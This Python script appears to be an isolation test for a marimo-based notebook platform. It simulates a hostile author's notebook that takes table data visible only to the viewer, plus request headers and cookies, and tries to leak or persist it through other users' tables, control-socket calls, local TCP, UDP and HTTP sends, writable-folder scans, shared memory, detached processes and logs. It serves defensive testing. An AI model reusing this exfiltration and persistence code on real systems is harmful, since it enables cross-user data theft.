# What an author's code can try in the kernel of whoever reads it, with what only they may see: write it somewhere, send it off,
# have it saved, leave it behind. The last value says what came of each.
import base64
import builtins
import ctypes
import functools
import gc
import json
import logging
import multiprocessing.shared_memory
import os
import pickle
import socket
import subprocess
import sys
import threading
import types
import urllib.request

import marimo as mo
import pandas as pd
from marimo._session.notebook import AppFileManager

from scrydon import artifacts, errors, inference, kb, llm, tables

given = json.loads(base64.b64decode("GIVEN"))
mark = given["mark"][::-1]  # so that no source has it
seen = sorted(tables.read("compliance_authorities", columns=["email"])["email"].dropna())
loot = f"{mark} {' '.join(seen)}"
frame = pd.DataFrame({"carrier": ["AA"], "loot": [loot]})


def attempt(what):
    try:
        return what() or "done"
    except errors.ScrydonError as error:
        return f"refused: {error.code}"
    except Exception as error:
        return f"refused: {type(error).__name__}"


def control(call, **body):
    with socket.socket(socket.AF_UNIX) as own:
        own.connect("/run/scrydon/control")
        own.sendall(json.dumps({"call": call, "body": body}).encode() + b"\n")
        said = json.loads(own.makefile().readline())
        return f"refused: {said['error']['code']}" if "error" in said else "done"


def reaches(family, address, kind=socket.SOCK_STREAM):
    with socket.socket(family, kind) as own:
        own.settimeout(2)
        own.connect(address)
        for _ in range(2):  # of the first datagram one hears with the second
            own.sendall(loot.encode())


def family(number):
    socket.socket(number, socket.SOCK_DGRAM if number != 40 else socket.SOCK_STREAM).close()


def writes(folder):
    path = os.path.join(folder, f"{mark}.txt")
    try:
        with open(path, "w") as file:
            file.write(loot)
        return True
    except OSError:
        return False


def writable():
    """The folders in which a file could be put, without those below another one."""
    found = []
    for folder, folders, _ in os.walk("/"):
        folders[:] = [name for name in folders if os.path.join(folder, name) not in ("/proc", "/sys")]
        if writes(folder):
            found.append(folder)
    return [folder for folder in found if os.path.dirname(folder) not in found]


def saved_by_marimo():
    """In run mode marimo's server is this very process: its own hand on the file is taken."""
    (manager, *_) = [one for one in gc.get_objects() if isinstance(one, AppFileManager)]
    manager.save_app_config({"app_title": loot})
    with open(manager.path) as file:
        return "" if loot in file.read() else "refused: unchanged"


def session_kept():
    os.makedirs("__marimo__/session", exist_ok=True)
    with open("__marimo__/session/notebook.py.json", "w") as file:
        file.write(loot)


class Shared(multiprocessing.shared_memory.SharedMemory):
    def __del__(self):
        pass  # it stays


def shared_memory():
    block = Shared(mark, create=True, size=len(loot))
    block.buf[:] = loot.encode()
    builtins.block = block


def system_v():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    place = libc.shmat(libc.shmget(given["key"], 1 << 16, 0o1666), None, 0)
    ctypes.memmove(place, loot.encode(), len(loot))


def listening(family, address):
    server = socket.socket(family)
    server.bind(address)
    server.listen()

    def serve():
        while True:
            server.accept()[0].sendall(loot.encode())

    threading.Thread(target=serve, name=mark, daemon=True).start()


def outliving():
    subprocess.Popen(
        [sys.executable, "-c", "import time\ntime.sleep(3600)", loot],
        env={"LEFT": loot},
        stdin=subprocess.DEVNULL,
        start_new_session=True,
    )


def module():
    left = types.ModuleType("left")
    left.loot = builtins.left = loot
    sys.modules["left"] = left
    json.left = loot


@functools.cache
def kept():
    return loot


@mo.persistent_cache
def persistent():
    return loot


def pickled():
    with open(os.path.expanduser("~/left.pickle"), "wb") as file:
        pickle.dump(loot, file)


def told():
    """Where a program's complaints end up."""
    for fd in (1, 2):
        os.write(fd, loot.encode() + b"\n")
    logging.getLogger("marimo").error(loot)
    print(loot, file=sys.__stderr__)
    failing = threading.Thread(target=lambda: exec("raise ValueError(loot)", {"loot": loot}))
    failing.start()
    failing.join()


rows = {"hour": 6, "month": 7, "distance": 1000.0, "from_lga": False, "from_jfk": True, "seats": 150}
weather = {"precip": 0.0, "visib": 10.0, "wind_speed": 10.0, "humid": float(len(loot) % 100)}
port, udp, shell = given["port"], given["udp"], given["shell"]
tried = {
    "write": {
        "a table": attempt(lambda: tables.write("loot", frame, mode="create")),
        "rows of the author’s": attempt(lambda: tables.write("demo-colleague.loot", frame)),
        "rows of theirs": attempt(lambda: tables.write("demo-analyst.loot", frame, mode="replace")),
        "a table, past the library": attempt(lambda: control("tables.write", write="w_" + "x" * 24, table="loot", mode="create", columns=[])),
        "an artefact": attempt(lambda: artifacts.save(loot.encode(), "loot.txt")),
        "an artefact, past the library": attempt(lambda: control("artefacts.save", save="s_" + "x" * 24, name=mark, content={"kind": "file"})),
        "a prompt": attempt(lambda: llm.complete(loot)),
        "a prompt, past the library": attempt(lambda: control("llm.begin", id="x" * 16, model="default", messages=[{"role": "user", "content": loot}], tokens=None, temperature=None)),
        "a prompt to a name": attempt(lambda: llm.complete("x", model=mark)),
        "a table of a name": attempt(lambda: tables.read(mark)),
        "a column of a name": attempt(lambda: tables.read("compliance_authorities", columns=[mark])),
        "a score": attempt(lambda: inference.predict("flight_delay", pd.DataFrame([rows | weather])) and "done"),
        "a score of a name": attempt(lambda: inference.predict(mark, pd.DataFrame([rows]))),
        "a search": attempt(lambda: kb.search(loot[:200]) and "done"),
        **{call: attempt(lambda call=call: control(call, mark=loot)) for call in (*given["calls"], "__proto__")},
        "the loot": attempt(lambda: control(loot)),
    },
    "save": {
        "by marimo": attempt(saved_by_marimo),
        "a session": attempt(session_kept),
    },
    "send": {
        "TCP": attempt(lambda: reaches(socket.AF_INET, ("127.0.0.1", port))),
        "the shell": attempt(lambda: reaches(socket.AF_INET, ("127.0.0.1", shell))),
        "TCP 6": attempt(lambda: reaches(socket.AF_INET6, ("::1", port))),
        "UDP": attempt(lambda: reaches(socket.AF_INET, ("127.0.0.1", udp), socket.SOCK_DGRAM)),
        "HTTP": attempt(lambda: urllib.request.urlopen(f"http://127.0.0.1:{port}/{mark}", timeout=2)),
        "a name": attempt(lambda: socket.getaddrinfo(f"{mark}.invalid", 80)),
        **{path: attempt(lambda path=path: reaches(socket.AF_UNIX, path)) for path in given["sockets"]},
        **{name: attempt(lambda number=number: family(number)) for name, number in given["families"].items()},
        "complaints": attempt(told),
    },
    "leave": {
        "files": attempt(lambda: sorted(writable())),
        "a pickle": attempt(pickled),
        "shared memory": attempt(shared_memory),
        "System V memory": attempt(system_v),
        "an abstract socket": attempt(lambda: listening(socket.AF_UNIX, f"\0{mark}")),
        "a port": attempt(lambda: listening(socket.AF_INET, ("127.0.0.1", given["own"]))),
        "a process": attempt(outliving),
        "a module": attempt(module),
        "the environment": attempt(lambda: os.environ.update(LEFT=loot)),
        "a cache": attempt(lambda: kept() and "done"),
        "a persistent cache": attempt(lambda: persistent() and "done"),
    },
}
doors = sorted(os.listdir("/run/scrydon"))
request = mo.app_meta().request
known = {"headers": sorted(request.headers), "query": sorted(request.query_params), "cookies": request.cookies}
"TRIED:" + base64.b64encode(json.dumps([len(seen), doors, known, tried]).encode()).decode() + ":"
